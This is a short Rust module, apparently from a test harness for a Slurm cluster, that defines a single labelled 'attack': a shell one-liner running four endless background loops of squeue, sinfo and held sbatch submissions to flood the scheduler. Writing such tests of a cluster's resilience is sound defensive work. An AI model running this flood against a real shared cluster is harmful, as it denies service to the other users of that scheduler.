//! Slurm's own commands, as everyone may use them.

use super::attack::Attack;

pub(super) fn attacks() -> Vec<Attack> {
    let line = "for i in 1 2 3 4; do while :; do squeue; sinfo; sbatch --hold --output=/dev/null --wrap true; done & done; wait";
    vec![Attack::new("questions and jobs without a pause", line, "ready")]
}
